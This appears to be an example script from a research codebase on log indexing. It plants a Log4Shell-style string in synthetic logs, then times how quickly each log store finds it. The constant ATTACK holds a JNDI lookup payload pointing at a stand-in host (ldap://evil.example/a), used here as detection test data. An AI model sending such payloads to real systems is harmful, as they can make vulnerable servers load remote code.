"""Log4Shell hunt (paper §1): find "${jndi" patterns across every store,
compare candidates touched and wall time: the end-to-end argument for
probabilistic indexing.  The stores that take a device (DynaWarp, CSC) run
on ``--device``.

    PYTHONPATH=src python -m repro_torch.examples.log_search [--device cpu]
"""
import argparse
import sys
import time

from repro_torch.logstore.datasets import generate_dataset
from repro_torch.logstore.store import ALL_STORES

ATTACK = 'GET /api HTTP/1.1 400 payload="${jndi:ldap://evil.example/a}"'
DEVICE_STORES = ("dynawarp", "csc")


def main(argv=None) -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--device", default=None,
                    help="torch device of DynaWarp and CSC (default: the GPU)")
    ap.add_argument("--n-lines", type=int, default=20000)
    args = ap.parse_args(argv)

    ds = generate_dataset("hunt", n_lines=args.n_lines, n_sources=32, seed=3)
    # plant three attack lines
    planted = sorted({1234 % args.n_lines, 9876 % args.n_lines,
                      18765 % args.n_lines})
    lines = list(ds.lines)
    for pos in planted:
        lines[pos] = ATTACK

    for name, cls in ALL_STORES.items():
        kw = {"device": args.device} if name in DEVICE_STORES else {}
        store = cls(batch_lines=128, **kw)
        store.ingest(lines)
        store.finish()
        t0 = time.perf_counter()
        r = store.query_contains("${jndi")
        dt = (time.perf_counter() - t0) * 1e3
        print(f"{name:9s} found {len(r.matches)} attacks, touched "
              f"{len(r.candidate_batches):4d}/{r.batches_total} batches "
              f"in {dt:7.2f} ms  (index {store.stats.index_bytes/1e3:8.1f} KB)")
        if r.matches != planted:
            print(f"{name} found lines {r.matches}, planted {planted}")
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
